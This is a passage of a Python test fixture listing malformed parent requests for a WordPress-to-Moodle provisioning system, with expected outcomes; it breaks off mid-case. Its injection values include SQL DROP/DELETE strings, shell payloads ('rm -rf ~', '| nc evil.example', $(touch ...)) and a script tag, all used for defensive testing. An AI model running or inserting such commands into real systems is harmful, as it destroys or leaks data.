"""The bad-input corpus: approved requests as the WordPress form, an old import or a careless
hand left them, each with the Moodle people it needs and how it must end.

A case ends provisioned exactly when it expects no reason; otherwise it stays approved with
exactly these reasons (their texts on the request, their codes in the run summary). `linked`
names the pupils this request's parent must hold the Parent role over, and nobody else.
Pupils are keyed so that a case may name one another case set up (two parents of one child).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from include.parent_provisioning.reasons import Reason
from include.parent_provisioning.requests import CHILDREN_NOT_LINKED

PWNED = "/tmp/pp-bad-input-pwned"  # a shell that ran request text would create it


@dataclass(frozen=True)
class Person:
    """Someone in Moodle. kind: pupil (in the pupils cohort), user (any other account), parent."""

    key: str
    kind: str
    first: str
    last: str
    group: str = ""
    extra: dict = field(default_factory=dict)


def pupil(key, first, last, group, **extra) -> Person:
    return Person(key, "pupil", first, last, group, extra)


def user(key, first, last, group="", **extra) -> Person:
    """A staff member, another parent, an admin: an account outside the pupils cohort."""
    return Person(key, "user", first, last, group, extra)


def parent(key, email, first, last, **extra) -> Person:
    """A parent account this project created earlier (auth 'db', username = email)."""
    return Person(key, "parent", first, last, extra={"email": email, **extra})


def not_found(position: int, group: str) -> Reason:
    return Reason("child_not_found", position=position, tutor_group=group)


def ambiguous(position: int, group: str, count: int = 2) -> Reason:
    return Reason("child_ambiguous", position=position, tutor_group=group, count=count)


def namesake(position: int, group: str, count: int = 1) -> Reason:
    """One active pupil matches, but `count` accounts that are not candidates have the same name."""
    return Reason("child_namesake", position=position, tutor_group=group, count=count)


def incomplete(position: int) -> Reason:
    return Reason("child_incomplete", position=position)


NO_FIRST_CHILD = Reason("no_first_child")
INVALID_EMAIL = Reason("invalid_email")
NOT_A_USERNAME = Reason("email_not_a_moodle_username")
NO_AUTH_ROW = Reason("no_auth_row")


def other_auth(auth: str) -> Reason:
    return Reason("account_other_auth", auth=auth)


@dataclass(frozen=True)
class Case:
    name: str
    holds: str  # what the request holds, in a few words (RELIABILITY.md)
    children: tuple = ()  # up to three (first, surname, tutor group); None: a NULL column
    email: str | None = None  # None: a plain address of its own
    request: dict = field(default_factory=dict)  # School.request keywords: title, fname, auth, any column
    moodle: tuple[Person, ...] = ()
    reasons: tuple[Reason, ...] = ()
    linked: tuple[str, ...] = ()  # keys of the pupils linked to this request's parent

    @property
    def status(self) -> str:
        return "approved" if self.reasons else "provisioned"

    @property
    def reason_key(self) -> str:
        return ",".join(sorted({r.code for r in self.reasons}))


def of_length(text: str, length: int) -> str:
    """A name of exactly `length` characters."""
    return (text * (length // len(text) + 1))[:length]


CASES: tuple[Case, ...] = (
    # SQL metacharacters, in every text field ------------------------------------------------
    Case(
        "SQL in the parent's title",
        "title `x'); DROP--`",
        [("Aurelio", "Vantongeren", "7RB")],
        request={"title": "x'); DROP--"},
        moodle=(pupil("aurelio", "Aurelio", "Vantongeren", "7RB"),),
        linked=("aurelio",),
    ),
    Case(
        "SQL in the parent's first name",
        "parent first name `Robert'); DROP TABLE wp_users; --`",
        [("Benedikt", "Ostrowski", "8CD")],
        request={"fname": "Robert'); DROP TABLE wp_users; --"},
        moodle=(pupil("benedikt", "Benedikt", "Ostrowski", "8CD"),),
        linked=("benedikt",),
    ),
    Case(
        "SQL in the parent's surname",
        "parent surname `' OR '1'='1`",
        [("Clemence", "Abernethy", "9KM")],
        request={"sname": "' OR '1'='1"},
        moodle=(pupil("clemence", "Clemence", "Abernethy", "9KM"),),
        linked=("clemence",),
    ),
    Case(
        "SQL in a child's first name, a pupil's real name",
        "child `Bobby'); DROP TABLE Students;--` Tablesworth, a pupil so named",
        [("Bobby'); DROP TABLE Students;--", "Tablesworth", "7RB")],
        moodle=(pupil("bobby", "Bobby'); DROP TABLE Students;--", "Tablesworth", "7RB"),),
        linked=("bobby",),
    ),
    Case(
        "SQL in a child's surname, a pupil's real name",
        "child Cosima `Lee' OR 1=1 --`, a pupil so named, among other pupils",
        [("Cosima", "Lee' OR 1=1 --", "9KM")],
        moodle=(
            pupil("cosima", "Cosima", "Lee' OR 1=1 --", "9KM"),
            pupil("cosima-lee", "Cosima", "Lee", "9KM"),
        ),
        linked=("cosima",),
    ),
    Case(
        "SQL in a child's surname matching nobody",
        "child Dorothea `' OR ''='` (true for every row if it were SQL)",
        [("Dorothea", "' OR ''='", "7RB")],
        moodle=(pupil("dorothea", "Dorothea", "Pennington", "7RB"),),
        reasons=(not_found(1, "7RB"),),
    ),
    Case(
        "SQL in a tutor group",
        "child Evander Pellegrino in `7RB' OR 1=1 --`; the pupil is in 7RB",
        [("Evander", "Pellegrino", "7RB' OR 1=1 --")],
        moodle=(pupil("evander", "Evander", "Pellegrino", "7RB"),),
        reasons=(not_found(1, "7RB' OR 1=1 --"),),
    ),
    Case(
        "SQL wildcards as a child's surname",
        "child Fenella `%_%` (a wildcard if it were LIKE)",
        [("Fenella", "%_%", "8CD")],
        moodle=(pupil("fenella", "Fenella", "Quatermain", "8CD"),),
        reasons=(not_found(1, "8CD"),),
    ),
    Case(
        "SQL in the email, with spaces",
        "email `x'; DROP TABLE wp_users; --@example.org`",
        [("Gwendolyn", "Rutherford", "9KM")],
        email="x'; DROP TABLE wp_users; --@example.org",
        moodle=(pupil("gwendolyn", "Gwendolyn", "Rutherford", "9KM"),),
        reasons=(INVALID_EMAIL,),
    ),
    Case(
        "SQL in the email, without spaces",
        "email `robert');--@example.org`",
        [("Gwendolyn", "Rutherford", "9KM")],
        email="robert');--@example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    Case(
        "SQL in the parent comment",
        "parent comment `'; DELETE FROM mdl_user; --`",
        [("Horatio", "Stanislawski", "10EF")],
        request={"parent_comment": "'; DELETE FROM mdl_user; --"},
        moodle=(pupil("horatio", "Horatio", "Stanislawski", "10EF"),),
        linked=("horatio",),
    ),
    Case(
        "SQL in the staff comment, IP address, request type and system comment",
        "every other text column with SQL in it",
        [("Isadora", "Thistlethwaite", "7RB")],
        request={
            "staff_comment": "'); TRUNCATE wp_options; --",
            "remote_ip_addr": "1.2.3.4'; DROP TABLE x; --",
            "request_type": "x'; DROP TABLE wp_posts; --",
            "system_comment": "2020-01-01 00:00:00 '); UPDATE wp_users SET user_pass = ''; --",
        },
        moodle=(pupil("isadora", "Isadora", "Thistlethwaite", "7RB"),),
        linked=("isadora",),
    ),
    # Shell metacharacters -----------------------------------------------------------------
    Case(
        "command substitution in the parent's first name",
        f"parent first name `$(touch {PWNED})`",
        [("Jethro", "Underhill", "8CD")],
        request={"fname": f"$(touch {PWNED})"},
        moodle=(pupil("jethro", "Jethro", "Underhill", "8CD"),),
        linked=("jethro",),
    ),
    Case(
        "backticks in a child's first name, a pupil's real name",
        "child `` `reboot` `` Gallagher-Shell, a pupil so named",
        [("`reboot`", "Gallagher-Shell", "8CD")],
        moodle=(pupil("reboot", "`reboot`", "Gallagher-Shell", "8CD"),),
        linked=("reboot",),
    ),
    Case(
        "shell operators as a child's surname",
        "child Hermione `; rm -rf ~ &&`",
        [("Hermione", "; rm -rf ~ &&", "7RB")],
        reasons=(not_found(1, "7RB"),),
    ),
    Case(
        "pipes and redirections in the parent's surname",
        "parent surname `| nc evil.example 9 > /dev/null`",
        [("Ingram", "Vasquez-Lowe", "9KM")],
        request={"sname": "| nc evil.example 9 > /dev/null"},
        moodle=(pupil("ingram", "Ingram", "Vasquez-Lowe", "9KM"),),
        linked=("ingram",),
    ),
    Case(
        "backslashes in a child's surname, a pupil's real name",
        "child Ignatius `Back\\slash\\`, a pupil so named",
        [("Ignatius", "Back\\slash\\", "9KM")],
        moodle=(pupil("ignatius", "Ignatius", "Back\\slash\\", "9KM"),),
        linked=("ignatius",),
    ),
    Case(
        "an escaped quote in a tutor group",
        "child Jacinta Morcombe in `7RB\\'`; the pupil is in 7RB",
        [("Jacinta", "Morcombe", "7RB\\'")],
        moodle=(pupil("jacinta", "Jacinta", "Morcombe", "7RB"),),
        reasons=(not_found(1, "7RB\\'"),),
    ),
    Case(
        "Python format strings in a child's names, a pupil's real name",
        "child `Kasimir %s` `Lindqvist %(x)s`, a pupil so named",
        [("Kasimir %s", "Lindqvist %(x)s", "10EF")],
        moodle=(pupil("kasimir", "Kasimir %s", "Lindqvist %(x)s", "10EF"),),
        linked=("kasimir",),
    ),
    Case(
        "format braces in a tutor group",
        "child Leocadia Nakashima in `{0}{position}`",
        [("Leocadia", "Nakashima", "{0}{position}")],
        moodle=(pupil("leocadia", "Leocadia", "Nakashima", "7RB"),),
        reasons=(not_found(1, "{0}{position}"),),
    ),
    Case(
        "shell metacharacters in the email",
        "email `$(id)@example.org`",
        [("Leocadia", "Nakashima", "7RB")],
        email="$(id)@example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    Case(
        "a newline and a forged comment in a tutor group",
        "child Marisol Quintero in `7RB` newline `Provisioned`",
        [("Marisol", "Quintero", "7RB\nProvisioned")],
        moodle=(pupil("marisol", "Marisol", "Quintero", "7RB"),),
        reasons=(not_found(1, "7RB Provisioned"),),
    ),
    Case(
        "HTML in the parent's and a child's names",
        "parent `<script>alert(1)</script>`, child `<b>Nerys</b>` Okonkwo, a pupil so named",
        [("<b>Nerys</b>", "Okonkwo", "7RB")],
        request={"fname": "<script>alert(1)</script>"},
        moodle=(pupil("nerys", "<b>Nerys</b>", "Okonkwo", "7RB"),),
        linked=("nerys",),
    ),
    # Quotes and apostrophes ---------------------------------------------------------------
    Case(
        "an apostrophe in a child's surname",
        "child Siobhán O'Brien",
        [("Siobhán", "O'Brien", "8CD")],
        moodle=(pupil("siobhan", "Siobhán", "O'Brien", "8CD"),),
        linked=("siobhan",),
    ),
    Case(
        "apostrophes in both of the parent's names",
        "parent D'Arcy O'Neill-D'Souza, child Orla O'Neill",
        [("Orla", "O'Neill", "7RB")],
        request={"fname": "D'Arcy", "sname": "O'Neill-D'Souza"},
        moodle=(pupil("orla", "Orla", "O'Neill", "7RB"),),
        linked=("orla",),
    ),
    Case(
        "a typographic apostrophe for a plain one",
        "child Padraig O’Sullivan (U+2019); the pupil is O'Sullivan",
        [("Padraig", "O’Sullivan", "9KM")],
        moodle=(pupil("padraig", "Padraig", "O'Sullivan", "9KM"),),
        reasons=(not_found(1, "9KM"),),
    ),
    Case(
        "double quotes in the parent's first name",
        'parent first name `Jean-Luc "JL"`',
        [("Quentin", "Arbogast", "7RB")],
        request={"fname": 'Jean-Luc "JL"'},
        moodle=(pupil("quentin", "Quentin", "Arbogast", "7RB"),),
        linked=("quentin",),
    ),
    Case(
        "an apostrophe in the email",
        "email `o'brien.parent@example.org`",
        [("Siobhán", "O'Brien", "8CD")],
        email="o'brien.parent@example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    # Non-Latin scripts, combining accents, emoji ------------------------------------------
    Case(
        "Cyrillic names",
        "parent Светлана Иванова, child Алёна Иванова",
        [("Алёна", "Иванова", "8CD")],
        request={"fname": "Светлана", "sname": "Иванова"},
        moodle=(pupil("alyona", "Алёна", "Иванова", "8CD"),),
        linked=("alyona",),
    ),
    Case(
        "Cyrillic without the diaeresis",
        "child Алена Смирнова; the only such pupil is Алёна",
        [("Алена", "Смирнова", "8CD")],
        moodle=(pupil("alyona-s", "Алёна", "Смирнова", "8CD"),),
        linked=("alyona-s",),
    ),
    Case(
        "Greek names in capitals, with a final sigma",
        "child ΝΙΚΌΛΑΟΣ ΠΑΠΑΔΟΠΟΎΛΟΥ in 9km; the pupil is Νικόλαος Παπαδοπούλου, 9KM",
        [("ΝΙΚΌΛΑΟΣ", "ΠΑΠΑΔΟΠΟΎΛΟΥ", "9km")],
        moodle=(pupil("nikolaos", "Νικόλαος", "Παπαδοπούλου", "9KM"),),
        linked=("nikolaos",),
    ),
    Case(
        "Chinese names",
        "parent 王芳, child 小明 王",
        [("小明", "王", "10EF")],
        request={"fname": "芳", "sname": "王"},
        moodle=(pupil("xiaoming", "小明", "王", "10EF"),),
        linked=("xiaoming",),
    ),
    Case(
        "Arabic names with vowel marks",
        "child فَاطِمَة الزهراء (marked); the pupil is written without the marks",
        [("فَاطِمَة", "الزهراء", "7RB")],
        moodle=(pupil("fatima", "فاطمة", "الزهراء", "7RB"),),
        linked=("fatima",),
    ),
    Case(
        "Devanagari names",
        "child अनन्या शर्मा",
        [("अनन्या", "शर्मा", "8CD")],
        moodle=(pupil("ananya", "अनन्या", "शर्मा", "8CD"),),
        linked=("ananya",),
    ),
    Case(
        "Devanagari: another spelling of the only candidate",
        "child अनन्या वर्मा; the only pupil is अननया वर्मा (no viramas: another name)",
        [("अनन्या", "वर्मा", "9KM")],
        moodle=(pupil("ananaya", "अननया", "वर्मा", "9KM"),),
        reasons=(not_found(1, "9KM"),),
    ),
    Case(
        "a combining accent for a precomposed one",
        "child Zoe + U+0301 Ngata; the pupil is Zoé (precomposed)",
        [("Zoe\u0301", "Ngata", "7RB")],
        moodle=(pupil("zoe", "Zoé", "Ngata", "7RB"),),
        linked=("zoe",),
    ),
    Case(
        "an accent the pupil's name does not have",
        "child René Faucher; the only such pupil is Rene",
        [("René", "Faucher", "8CD")],
        moodle=(pupil("rene", "Rene", "Faucher", "8CD"),),
        linked=("rene",),
    ),
    Case(
        "a first name that is only a combining accent",
        "child U+0301 Thistlewood; a pupil Thistlewood has an empty first name",
        [("\u0301", "Thistlewood", "9KM")],
        moodle=(pupil("nameless", "", "Thistlewood", "9KM"),),
        reasons=(not_found(1, "9KM"),),
    ),
    Case(
        "emoji in the parent's name and comment",
        "parent `Ann 🌻`, comment `Thanks! 🙏`",
        [("Ulrike", "Zabrowski", "10EF")],
        request={"fname": "Ann 🌻", "parent_comment": "Thanks! 🙏"},
        moodle=(pupil("ulrike", "Ulrike", "Zabrowski", "10EF"),),
        linked=("ulrike",),
    ),
    Case(
        "emoji in a child's first name",
        "child `Viggo 🦖` Halvorsen; the pupil is Viggo",
        [("Viggo 🦖", "Halvorsen", "7RB")],
        moodle=(pupil("viggo", "Viggo", "Halvorsen", "7RB"),),
        reasons=(not_found(1, "7RB"),),
    ),
    Case(
        "emoji in a tutor group",
        "child Wilhelmina Achterberg in `7RB🙂`",
        [("Wilhelmina", "Achterberg", "7RB🙂")],
        moodle=(pupil("wilhelmina", "Wilhelmina", "Achterberg", "7RB"),),
        reasons=(not_found(1, "7RB🙂"),),
    ),
    Case(
        "emoji in the email",
        "email `parent🙂@example.org`",
        [("Wilhelmina", "Achterberg", "7RB")],
        email="parent🙂@example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    # At the column lengths ----------------------------------------------------------------
    Case(
        "the parent's names and title at their column lengths",
        "title of 12 characters, first name and surname of 255",
        [("Xavier", "Oyelowo-Brandt", "8CD")],
        request={
            "title": "Wing Cmdr Dr",
            "fname": of_length("Maximiliane", 255),
            "sname": of_length("Featherstonehaugh", 255),
        },
        moodle=(pupil("xavier", "Xavier", "Oyelowo-Brandt", "8CD"),),
        linked=("xavier",),
    ),
    Case(
        "a child's names at Moodle's column length",
        "child's first name and surname of 100 characters (Moodle's limit), a pupil so named",
        [(of_length("Bartholomew", 100), of_length("Montgomery-Smythe", 100), "8CD")],
        moodle=(pupil("bartholomew", of_length("Bartholomew", 100), of_length("Montgomery-Smythe", 100), "8CD"),),
        linked=("bartholomew",),
    ),
    Case(
        "a child's names at the request's column length",
        "child's first name and surname of 255 characters: longer than any Moodle name",
        [(of_length("Bartholomew", 255), of_length("Montgomery-Smythe", 255), "8CD")],
        reasons=(not_found(1, "8CD"),),
    ),
    Case(
        "a tutor group at its column length",
        "child Xanthe Yardley in `Y7 Blue Kestrels` (16 characters)",
        [("Xanthe", "Yardley", "Y7 Blue Kestrels")],
        moodle=(pupil("xanthe", "Xanthe", "Yardley", "Y7 Blue Kestrels"),),
        linked=("xanthe",),
    ),
    Case(
        "an email at its column length",
        "email of 255 characters",
        [("Xanthe", "Yardley", "Y7 Blue Kestrels")],
        email=of_length("a", 243) + "@example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    Case(
        "an email at Moodle's username length",
        "email of 100 characters (Moodle's username limit)",
        [("Ysolde", "Zebrowski", "9KM")],
        email=of_length("p", 88) + "@example.org",
        moodle=(pupil("ysolde", "Ysolde", "Zebrowski", "9KM"),),
        linked=("ysolde",),
    ),
    Case(
        "an email one character beyond Moodle's username length",
        "email of 101 characters",
        [("Ysolde", "Zebrowski", "9KM")],
        email=of_length("q", 89) + "@example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    Case(
        "a very long parent comment",
        "a parent comment of 60,000 characters",
        [("Ambrose", "Beauchamp", "10EF")],
        request={"parent_comment": of_length("Please link my son. ", 60_000)},
        moodle=(pupil("ambrose", "Ambrose", "Beauchamp", "10EF"),),
        linked=("ambrose",),
    ),
    # Spaces --------------------------------------------------------------------------------
    Case(
        "leading and trailing spaces everywhere",
        "spaces around the email, the parent's names and the child's names and tutor group",
        [("  Yusuf ", " Zamani  ", " 7RB ")],
        email="  yusuf.zamani.parent@example.org  ",
        request={"fname": "  Amira ", "sname": " Zamani  "},
        moodle=(pupil("yusuf", "Yusuf", "Zamani", "7RB"),),
        linked=("yusuf",),
    ),
    Case(
        "doubled spaces inside a child's names",
        "child `Mary  Ann` `Van  Dyke`; the pupil is Mary Ann Van Dyke",
        [("Mary  Ann", "Van  Dyke", "8CD")],
        moodle=(pupil("maryann", "Mary Ann", "Van Dyke", "8CD"),),
        linked=("maryann",),
    ),
    Case(
        "a tutor group spaced out and in lower case",
        "child Agnieszka Brzezinska in ` 9 km `; the pupil is in 9KM",
        [("Agnieszka", "Brzezinska", " 9 km ")],
        moodle=(pupil("agnieszka", "Agnieszka", "Brzezinska", "9KM"),),
        linked=("agnieszka",),
    ),
    Case(
        "tabs and newlines in a child's names",
        "child `Ceri<tab>Anne` `Davies-Llewellyn<newline>`",
        [("Ceri\tAnne", "Davies-Llewellyn\n", "10EF")],
        moodle=(pupil("ceri", "Ceri Anne", "Davies-Llewellyn", "10EF"),),
        linked=("ceri",),
    ),
    Case(
        "non-breaking spaces around a child's first name",
        "child U+00A0 Fionnuala U+00A0 Gallagher",
        [("\u00a0Fionnuala\u00a0", "Gallagher", "8CD")],
        moodle=(pupil("fionnuala", "Fionnuala", "Gallagher", "8CD"),),
        linked=("fionnuala",),
    ),
    Case(
        "a first child whose first name is spaces",
        "child 1: first name of spaces, Eberhardt, 7RB",
        [("   ", "Eberhardt", "7RB")],
        moodle=(pupil("eberhardt", "Emil", "Eberhardt", "7RB"),),
        reasons=(NO_FIRST_CHILD,),
    ),
    # Emails --------------------------------------------------------------------------------
    Case(
        "an email in mixed case",
        "email `Mixed.CASE.Parent@Example.ORG`",
        [("Gustav", "Hallengren", "9KM")],
        email="Mixed.CASE.Parent@Example.ORG",
        moodle=(pupil("gustav", "Gustav", "Hallengren", "9KM"),),
        linked=("gustav",),
    ),
    Case(
        "plus-addressing",
        "email `hamish+school@example.org`",
        [("Gustav", "Hallengren", "9KM")],
        email="hamish+school@example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    Case(
        "plus-addressing in mixed case",
        "email `Isla+Moodle@Example.org`",
        [("Gustav", "Hallengren", "9KM")],
        email="Isla+Moodle@Example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    Case(
        "not an email",
        "email `not an email`",
        [("Gustav", "Hallengren", "9KM")],
        "not an email",
        reasons=(INVALID_EMAIL,),
    ),
    Case(
        "an email without a domain",
        "email `jasper@`",
        [("Gustav", "Hallengren", "9KM")],
        "jasper@",
        reasons=(INVALID_EMAIL,),
    ),
    Case(
        "an email without a local part",
        "email `@example.org`",
        [("Gustav", "Hallengren", "9KM")],
        "@example.org",
        reasons=(INVALID_EMAIL,),
    ),
    Case(
        "an email without a dot in its domain",
        "email `jasper@localhost`",
        [("Gustav", "Hallengren", "9KM")],
        "jasper@localhost",
        reasons=(INVALID_EMAIL,),
    ),
    Case(
        "an email with two @ signs",
        "email `jasper@@example.org`",
        [("Gustav", "Hallengren", "9KM")],
        "jasper@@example.org",
        reasons=(INVALID_EMAIL,),
    ),
    Case(
        "an empty email",
        "email empty, no auth row",
        [("Gustav", "Hallengren", "9KM")],
        "",
        request={"auth": False},
        reasons=(INVALID_EMAIL,),
    ),
    Case(
        "a name and address for an email",
        "email `Kirsty Lomax <kirsty.lomax@example.org>`",
        [("Gustav", "Hallengren", "9KM")],
        "Kirsty Lomax <kirsty.lomax@example.org>",
        reasons=(INVALID_EMAIL,),
    ),
    Case(
        "a non-ASCII email",
        "email `jürgen@example.org`",
        [("Gustav", "Hallengren", "9KM")],
        "jürgen@example.org",
        reasons=(NOT_A_USERNAME,),
    ),
    # Missing and repeated children ---------------------------------------------------------
    Case(
        "a missing first child",
        "child 1 empty, child 2 Lorcan Mulcahy (a pupil)",
        [("", "", ""), ("Lorcan", "Mulcahy", "7RB")],
        moodle=(pupil("lorcan", "Lorcan", "Mulcahy", "7RB"),),
        reasons=(NO_FIRST_CHILD,),
    ),
    Case(
        "a missing first child and an unknown second",
        "child 1 empty, child 2 Lorcan Mulcahy in 8CD (the pupil is in 7RB)",
        [("", "", ""), ("Lorcan", "Mulcahy", "8CD")],
        reasons=(NO_FIRST_CHILD, not_found(2, "8CD")),
    ),
    Case(
        "a first child without a surname",
        "child 1 Magnus, no surname, 8CD",
        [("Magnus", "", "8CD")],
        reasons=(NO_FIRST_CHILD,),
    ),
    Case(
        "a first child without a tutor group",
        "child 1 Niamh Oyelaran, no tutor group",
        [("Niamh", "Oyelaran", "")],
        moodle=(pupil("niamh", "Niamh", "Oyelaran", "8CD"),),
        reasons=(NO_FIRST_CHILD,),
    ),
    Case(
        "a second child without a surname",
        "child 1 Ottilie Pemberton (a pupil), child 2 Percival with no surname",
        [("Ottilie", "Pemberton", "9KM"), ("Percival", "", "9KM")],
        moodle=(pupil("ottilie", "Ottilie", "Pemberton", "9KM"),),
        reasons=(incomplete(2),),
    ),
    Case(
        "a second child with a NULL first name",
        "child 1 Ottilie Pemberton (a pupil), child 2 first name NULL, Pemberton, 9KM",
        [("Ottilie", "Pemberton", "9KM"), (None, "Pemberton", "9KM")],
        reasons=(incomplete(2),),
    ),
    Case(
        "a third child with only a tutor group",
        "children 1 and 2 pupils, child 3 only `10EF`",
        [("Petronella", "Quayle", "10EF"), ("Pip", "Quayle", "10EF"), ("", "", "10EF")],
        moodle=(pupil("petronella", "Petronella", "Quayle", "10EF"), pupil("pip", "Pip", "Quayle", "10EF")),
        reasons=(incomplete(3),),
    ),
    Case(
        "the same child twice",
        "children 1 and 2 both Quilla Ravensworth, 7RB",
        [("Quilla", "Ravensworth", "7RB"), ("Quilla", "Ravensworth", "7RB")],
        moodle=(pupil("quilla", "Quilla", "Ravensworth", "7RB"),),
        linked=("quilla",),
    ),
    Case(
        "the same child three times, spelled three ways",
        "Rhiannon Saltonstall 8CD, RHIANNON saltonstall ` 8cd`, Rhiannón Saltonstall `8 CD`",
        [("Rhiannon", "Saltonstall", "8CD"), ("RHIANNON", "saltonstall", " 8cd"), ("Rhiannón", "Saltonstall", "8 CD")],
        moodle=(pupil("rhiannon", "Rhiannon", "Saltonstall", "8CD"),),
        linked=("rhiannon",),
    ),
    Case(
        "the same ambiguous child twice",
        "children 1 and 2 both Sorcha Tremayne 9KM; two pupils have that name",
        [("Sorcha", "Tremayne", "9KM"), ("Sorcha", "Tremayne", "9KM")],
        moodle=(pupil("sorcha-1", "Sorcha", "Tremayne", "9KM"), pupil("sorcha-2", "Sorcha", "Tremayne", "9KM")),
        reasons=(ambiguous(1, "9KM"),),
    ),
    Case(
        "an ambiguous child beside a clear one",
        "child 1 Sorcha Tremayne (two pupils), child 2 Saoirse Tremayne (one)",
        [("Sorcha", "Tremayne", "9KM"), ("Saoirse", "Tremayne", "9KM")],
        moodle=(pupil("saoirse", "Saoirse", "Tremayne", "9KM"),),
        reasons=(ambiguous(1, "9KM"),),
        linked=("saoirse",),
    ),
    # One parent, several requests; one child, several parents -----------------------------
    Case(
        "the same parent in two approved requests: the first",
        "new account for child Tamsin Upton; the same email asks again below",
        [("Tamsin", "Upton", "7RB")],
        email="tobias.upton@example.org",
        moodle=(pupil("tamsin", "Tamsin", "Upton", "7RB"),),
        linked=("tamsin",),
    ),
    Case(
        "the same parent in two approved requests: the second",
        "children-not-linked request, email in other case, for child Ursula Upton",
        [("Ursula", "Upton", "9KM")],
        email=" Tobias.Upton@Example.org",
        request={"request_type": CHILDREN_NOT_LINKED},
        moodle=(pupil("ursula", "Ursula", "Upton", "9KM"),),
        linked=("ursula",),
    ),
    Case(
        "the same parent and child in two approved requests: the first",
        "new account for child Valentin Vane",
        [("Valentin", "Vane", "8CD")],
        email="viola.vane@example.org",
        moodle=(pupil("valentin", "Valentin", "Vane", "8CD"),),
        linked=("valentin",),
    ),
    Case(
        "the same parent and child in two approved requests: the second",
        "the same email and child again",
        [("Valentin", "Vane", "8CD")],
        email="viola.vane@example.org",
        linked=("valentin",),
    ),
    Case(
        "two parents of one child: the first",
        "mother's request for Wystan Xenakis",
        [("Wystan", "Xenakis", "7RB")],
        email="winifred.xenakis@example.org",
        moodle=(pupil("wystan", "Wystan", "Xenakis", "7RB"),),
        linked=("wystan",),
    ),
    Case(
        "two parents of one child: the second",
        "father's request for the same child",
        [("Wystan", "Xenakis", "7RB")],
        email="wendell.xenakis@example.org",
        linked=("wystan",),
    ),
    # A child named like someone who is not a pupil (now) ---------------------------------
    Case(
        "a child named like a staff member only",
        "child Yannick Zielinski 7RB; a teacher of that name has 7RB as department",
        [("Yannick", "Zielinski", "7RB")],
        moodle=(user("yannick-staff", "Yannick", "Zielinski", "7RB"),),
        reasons=(not_found(1, "7RB"),),
    ),
    Case(
        "a child named like a staff member and a pupil",
        "child Aoife Brannigan 8CD; a teacher and a pupil have that name and group",
        [("Aoife", "Brannigan", "8CD")],
        moodle=(user("aoife-staff", "Aoife", "Brannigan", "8CD"), pupil("aoife", "Aoife", "Brannigan", "8CD")),
        reasons=(namesake(1, "8CD"),),  # the child may be the account outside the cohort
    ),
    Case(
        "a child named like parent accounts only",
        "child Caspian Delacroix 9KM; two parent ('db') accounts of that name, one in the pupils cohort",
        [("Caspian", "Delacroix", "9KM")],
        moodle=(
            parent("caspian-parent", "caspian.delacroix@example.org", "Caspian", "Delacroix"),
            pupil("caspian-db", "Caspian", "Delacroix", "9KM", auth="db", username="caspian.d@example.org"),
        ),
        reasons=(not_found(1, "9KM"),),
    ),
    Case(
        "a child named like a deleted pupil",
        "child Desmond Eversholt 7RB; the only pupil of that name is deleted",
        [("Desmond", "Eversholt", "7RB")],
        moodle=(pupil("desmond", "Desmond", "Eversholt", "7RB", deleted=1),),
        reasons=(not_found(1, "7RB"),),
    ),
    Case(
        "a child named like a suspended pupil",
        "child Esmeralda Fontaine 8CD; the only pupil of that name is suspended",
        [("Esmeralda", "Fontaine", "8CD")],
        moodle=(pupil("esmeralda", "Esmeralda", "Fontaine", "8CD", suspended=1),),
        reasons=(not_found(1, "8CD"),),
    ),
    Case(
        "a child named like a suspended pupil and an active one",
        "child Florian Gascoigne 9KM; one pupil of that name suspended, one active",
        [("Florian", "Gascoigne", "9KM")],
        moodle=(
            pupil("florian-old", "Florian", "Gascoigne", "9KM", suspended=1),
            pupil("florian", "Florian", "Gascoigne", "9KM"),
        ),
        reasons=(namesake(1, "9KM"),),  # the child may be the suspended one, the active one a stranger
    ),
    Case(
        "a child named like a suspended pupil whose name differs only by an accent",
        "child Zoe Quarrington 7RB; pupils Zoë Quarrington (suspended) and Zoe Quarrington, both 7RB",
        [("Zoe", "Quarrington", "7RB")],
        moodle=(
            pupil("zoe-q-old", "Zoë", "Quarrington", "7RB", suspended=1),
            pupil("zoe-q", "Zoe", "Quarrington", "7RB"),
        ),
        reasons=(namesake(1, "7RB"),),
    ),
    Case(
        "a child named like two suspended pupils and an active one",
        "child Ignatius Holloway 10EF; two suspended pupils and one active of that name and group",
        [("Ignatius", "Holloway", "10EF")],
        moodle=(
            pupil("ignatius-h-old-1", "Ignatius", "Holloway", "10EF", suspended=1),
            pupil("ignatius-h-old-2", "Ignatius", "Holloway", "10EF", suspended=1),
            pupil("ignatius-h", "Ignatius", "Holloway", "10EF"),
        ),
        reasons=(namesake(1, "10EF", count=2),),
    ),
    Case(
        "a child named like an account outside the pupils cohort and a pupil",
        "child Juniper Kowalczyk 8CD; a pupil, and an account of that name and group not in the cohort",
        [("Juniper", "Kowalczyk", "8CD")],
        moodle=(
            user("juniper-other", "Juniper", "Kowalczyk", "8CD", email="jk@elsewhere.test"),
            pupil("juniper", "Juniper", "Kowalczyk", "8CD"),
        ),
        reasons=(namesake(1, "8CD"),),
    ),
    Case(
        "a namesake child second, a plain child first",
        "child 1 Leopold Marchetti 7RB (a pupil); child 2 Leopold's sister, a pupil with a suspended namesake",
        [("Leopold", "Marchetti", "7RB"), ("Liesel", "Marchetti", "7RB")],
        moodle=(
            pupil("leopold", "Leopold", "Marchetti", "7RB"),
            pupil("liesel-old", "Liesel", "Marchetti", "7RB", suspended=1),
            pupil("liesel", "Liesel", "Marchetti", "7RB"),
        ),
        reasons=(namesake(2, "7RB"),),
        linked=("leopold",),  # child 1 is certain: linked so far, the request stays approved for child 2
    ),
    Case(
        "a child named like a deleted pupil and an active one",
        "child Magnus Northcott 9KM; one pupil of that name deleted, one active",
        [("Magnus", "Northcott", "9KM")],
        moodle=(
            pupil("magnus-old", "Magnus", "Northcott", "9KM", deleted=1),
            pupil("magnus", "Magnus", "Northcott", "9KM"),
        ),
        linked=("magnus",),  # a deleted account is no one's child in Moodle now: no namesake
    ),
    Case(
        "a child named like a staff member in another group",
        "child Octavia Penhaligon 10EF; a teacher of that name in department 'Staff'",
        [("Octavia", "Penhaligon", "10EF")],
        moodle=(
            user("octavia-staff", "Octavia", "Penhaligon", "Staff"),
